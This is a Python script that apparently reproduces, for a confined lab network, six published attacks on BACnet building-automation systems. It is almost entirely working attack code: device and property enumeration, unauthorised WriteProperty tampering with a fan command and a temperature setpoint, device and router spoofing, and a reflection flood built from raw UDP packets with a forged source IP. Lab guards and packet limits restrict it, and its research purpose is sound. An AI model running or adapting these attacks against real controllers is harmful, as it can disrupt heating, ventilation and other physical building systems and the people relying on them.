"""The six attacks of Fauri et al. (CRITIS 2018), rebuilt for the lab network of netns.sh.
Each runs inside a lab namespace, sends only to 198.18.0.0/15, and is bounded in messages and
time.

  snooping    from the attacker 198.18.1.66: Who-Is, then reads the object list and seven
              properties of every object of devices 1001 and 2001
  tampering1  from the attacker: one WriteProperty setting the fan command BO1 of the AHU-2
              controller to inactive, a value the operator also writes in normal use
  tampering2  from the operator workstation's host 198.18.1.40 (a compromised workstation):
              the supply setpoint AV3 raised by 5 °C above its current value
  spoofing1   from the attacker: I-Am claiming device instance 1001 (the AHU-2 controller)
  spoofing2   from the attacker: I-Am-Router-To-Network claiming network 2 (served by 198.18.1.20)
  ddos        from the attacker, source address forged as the workstation 198.18.1.40: 1000
              Who-Is to the broadcast address within about two seconds; every device answers
              the victim (reflection)

Usage: python3 attacks.py NAME
"""

import asyncio
import socket
import struct
import sys
import time

import guard

from bacpypes3.app import Application
from bacpypes3.apdu import ErrorRejectAbortNack
from bacpypes3.pdu import Address

from building import device, port

ATTACKER = "198.18.1.66"
VICTIM = "198.18.1.40"
BROADCAST = "198.18.1.255"
CONTROLLER = "198.18.1.10"
DEV2 = "2:198.18.2.10"
BACNET_PORT = 47808
# No attack sends more than this many packets of its own.
MAX_PACKETS = 1000
DDOS_SPAN_S = 2.0


def bvlc_broadcast(npdu: bytes) -> bytes:
    return struct.pack("!BBH", 0x81, 0x0B, 4 + len(npdu)) + npdu


async def snooping() -> None:
    app = Application.from_object_list([device(6666, "scanner"), port(f"{ATTACKER}/24", 0)])
    sent = 0
    props = ["object-name", "present-value", "description", "units", "status-flags",
             "out-of-service", "reliability"]
    await asyncio.sleep(0.5)
    app.who_is()
    await asyncio.sleep(1.0)
    for target, dev in ((CONTROLLER, 1001), (DEV2, 2001)):
        addr = Address(guard.lab_address(target))
        try:
            objects = await asyncio.wait_for(
                app.read_property(addr, f"device,{dev}", "object-list"), 3.0)
        except (Exception, ErrorRejectAbortNack) as e:
            print(f"snooping: object-list of {dev}: {e}", file=sys.stderr)
            continue
        for obj in objects:
            for prop in props:
                sent += 1
                if sent > MAX_PACKETS:
                    return
                try:
                    await asyncio.wait_for(app.read_property(addr, obj, prop), 2.0)
                except (Exception, ErrorRejectAbortNack):
                    pass  # unknown property: the attacker learns that too
    app.close()


async def write_once(local: str, target: str, objid: str, value) -> None:
    app = Application.from_object_list([device(6667, "writer"), port(local, 0)])
    await asyncio.sleep(0.5)
    addr = Address(guard.lab_address(target))
    try:
        await asyncio.wait_for(app.write_property(addr, objid, "present-value", value), 3.0)
    except (Exception, ErrorRejectAbortNack) as e:
        print(f"write: {e}", file=sys.stderr)
    app.close()


async def tampering1() -> None:
    await write_once(f"{ATTACKER}/24", CONTROLLER, "binary-output,1", "inactive")


async def tampering2() -> None:
    # Another port of the workstation's host: the workstation program holds 47808.
    app = Application.from_object_list([device(6668, "ws-tool"), port(f"{VICTIM}/24:47809", 0)])
    await asyncio.sleep(0.5)
    addr = Address(guard.lab_address(CONTROLLER))
    current = await asyncio.wait_for(app.read_property(addr, "analog-value,3", "present-value"), 3.0)
    await asyncio.wait_for(
        app.write_property(addr, "analog-value,3", "present-value", float(current) + 5.0), 3.0)
    app.close()


async def spoofing1() -> None:
    app = Application.from_object_list([device(1001, "AHU-2 controller"), port(f"{ATTACKER}/24", 0)])
    await asyncio.sleep(0.5)
    app.i_am()
    await asyncio.sleep(0.5)
    app.close()


async def spoofing2() -> None:
    # I-Am-Router-To-Network (NPDU control 0x80, message type 0x01) for network 2.
    npdu = bytes([0x01, 0x80, 0x01]) + struct.pack("!H", 2)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.bind((ATTACKER, BACNET_PORT))
        s.sendto(bvlc_broadcast(npdu), (guard.lab_address(BROADCAST), BACNET_PORT))


def udp_ipv4(src: str, dst: str, sport: int, dport: int, payload: bytes, ident: int) -> bytes:
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # checksum 0: none
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), ident & 0xFFFF, 0, 64,
                         socket.IPPROTO_UDP, 0, socket.inet_aton(src), socket.inet_aton(dst))
    csum = 0
    for (word,) in struct.iter_unpack("!H", header):
        csum += word
    csum = (csum & 0xFFFF) + (csum >> 16)
    csum = ~((csum & 0xFFFF) + (csum >> 16)) & 0xFFFF
    return header[:10] + struct.pack("!H", csum) + header[12:] + udp


async def ddos() -> None:
    # Who-Is without limits: NPDU 01 00, unconfirmed request 0x10, service 0x08.
    who_is = bvlc_broadcast(bytes([0x01, 0x00, 0x10, 0x08]))
    dst = guard.lab_address(BROADCAST)
    guard.lab_address(VICTIM)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        start = time.monotonic()
        for i in range(MAX_PACKETS):
            if time.monotonic() - start > 10 * DDOS_SPAN_S:
                break
            s.sendto(udp_ipv4(VICTIM, dst, BACNET_PORT, BACNET_PORT, who_is, i), (dst, 0))
            await asyncio.sleep(DDOS_SPAN_S / MAX_PACKETS)


ATTACKS = {
    "snooping": ("bw-atk", snooping),
    "tampering1": ("bw-atk", tampering1),
    "tampering2": ("bw-ws", tampering2),
    "spoofing1": ("bw-atk", spoofing1),
    "spoofing2": ("bw-atk", spoofing2),
    "ddos": ("bw-atk", ddos),
}


def main() -> None:
    if len(sys.argv) != 2 or sys.argv[1] not in ATTACKS:
        sys.exit(f"usage: attacks.py {'|'.join(ATTACKS)}")
    namespace, attack = ATTACKS[sys.argv[1]]
    guard.require(namespace)
    asyncio.run(asyncio.wait_for(attack(), 60.0))


if __name__ == "__main__":
    main()
